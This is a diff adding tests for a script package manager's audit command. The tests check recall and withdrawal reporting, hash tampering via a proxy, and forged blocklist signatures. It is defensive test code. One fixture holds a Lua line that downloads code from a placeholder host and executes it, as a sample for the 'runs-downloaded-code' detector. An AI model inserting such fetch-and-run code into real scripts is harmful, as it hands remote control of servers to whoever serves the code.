@@ -3,6 +3,7 @@ import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
 
 import { createGameServer } from '#test-support/game-server.ts'
+import { startHubProxy, type ProxyAnswer } from '#test-support/hub-proxy.ts'
 import { createOutdatedServer } from '#test-support/outdated-server.ts'
 import { startTestApp } from '#test-support/test-app.ts'
 
@@ -81,4 +82,116 @@ test('a changed file with its hash in installed.json is noticed, and sync brings
   expect(await server.read(file('server.lua'))).toBe(published)
   expect(await server.read('scripthaven.lock')).toBe(lock)
   expect(await problemsOf(server)).toEqual([])
+})
+
+const downloads = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
+
+/** The same server, with a hub that answers otherwise. */
+async function changeHub(server: GameServer, answer: ProxyAnswer): Promise<void> {
+  const { url } = await startHubProxy(app.url, answer)
+  for (const name of lockNames) await server.write(name, (await server.read(name)).replace(app.url, url))
+}
+
+test('audit names an open finding of severity high until allowFindings accepts its rule', async () => {
+  const { server, id } = await outdatedServer({ 'server.lua': downloads })
+
+  const [finding] = await problemsOf(server)
+  expect(finding).toMatchObject({
+    level: 'high',
+    what: 'finding',
+    script: id,
+    text: expect.stringContaining('[runs-downloaded-code]'),
+  })
+  const project = JSON.parse(await server.read('scripthaven.json'))
+  const allowFindings = { [id]: ['runs-downloaded-code'] }
+  await server.write('scripthaven.json', JSON.stringify({ ...project, allowFindings }))
+  expect(await problemsOf(server)).toEqual([])
+})
+
+test('a withdrawn version is a problem of level medium, and --fail-on decides the exit code', async () => {
+  const { server, versionId, file } = await outdatedServer()
+  await server.write(file('mine.lua'), 'mine')
+  expect(await server.run('audit')).toMatchObject({ code: 0 })
+  expect(await server.run('audit', '--fail-on', 'low')).toMatchObject({ code: 1 })
+  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
+    kind: 'broken',
+    reason: 'It does not start.',
+  })
+
+  expect(await server.run('audit')).toMatchObject({
+    code: 1,
+    stdout: expect.stringMatching(/medium .* was withdrawn \(broken\): It does not start\.\nlow /),
+  })
+  expect(await server.run('audit', '--fail-on', 'high')).toMatchObject({ code: 0 })
+})
+
+test('audit names another archive on the hub, and a version that is gone', async () => {
+  const { server } = await outdatedServer()
+  await changeHub(server, (path, text) => ({
+    text:
+      path === '/api/resolve'
+        ? text.replace(/"sha256":"[0-9a-f]{64}"/, `"sha256":"${'0'.repeat(64)}"`)
+        : text,
+  }))
+  expect(await problemsOf(server)).toMatchObject([
+    { level: 'high', what: 'other-hash', text: expect.stringContaining('another archive on the hub') },
+  ])
+  const { server: other } = await outdatedServer()
+  await changeHub(other, (path, text) => ({
+    text: path === '/api/resolve' ? JSON.stringify({ ...JSON.parse(text), scripts: [] }) : text,
+  }))
+  expect(await problemsOf(other)).toMatchObject([
+    { level: 'high', what: 'gone', text: expect.stringContaining('is no longer on the hub') },
+  ])
+})
+
+test('a blocklist with another signature is an error', async () => {
+  const { server } = await outdatedServer()
+  await changeHub(server, (path, text) => ({
+    text:
+      path === '/api/blocklist.json'
+        ? JSON.stringify({ ...JSON.parse(text), payload: Buffer.from('{}').toString('base64url') })
+        : text,
+  }))
+
+  expect(await server.run('audit')).toMatchObject({
+    code: 4,
+    stderr: expect.stringContaining('The signature of the blocklist'),
+  })
+})
+
+test('without the hub audit shows what the disk says, then the error', async () => {
+  const { server, name, file } = await outdatedServer()
+  await server.write(file('server.lua'), 'mine')
+  for (const path of lockNames)
+    await server.write(path, (await server.read(path)).replace(app.url, 'http://127.0.0.1:1'))
+
+  const { code, stdout, stderr } = await server.run('audit')
+
+  expect([code, stdout, stderr]).toEqual([
+    4,
+    `low     ${name}/server.lua differs from what was published.\n`,
+    expect.stringContaining('does not respond'),
+  ])
+  expect(await problemsOf(server)).toMatchObject([{ what: 'changed' }])
+})
+
+test('a recalled version that is not in the feed any more is named, too', async () => {
+  const { server, versionId } = await outdatedServer()
+  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
+    kind: 'security',
+    reason: 'It leaks the keys of the server.',
+  })
+  expect(await problemsOf(server)).toMatchObject([{ what: 'recalled' }])
+  await changeHub(server, (path, text) => ({
+    text: path === '/api/recalls' ? JSON.stringify({ ...JSON.parse(text), items: [] }) : text,
+  }))
+
+  expect(await problemsOf(server)).toMatchObject([
+    {
+      level: 'high',
+      what: 'recalled',
+      text: expect.stringMatching(/was recalled: It leaks.*Run ".* update"/),
+    },
+  ])
 })
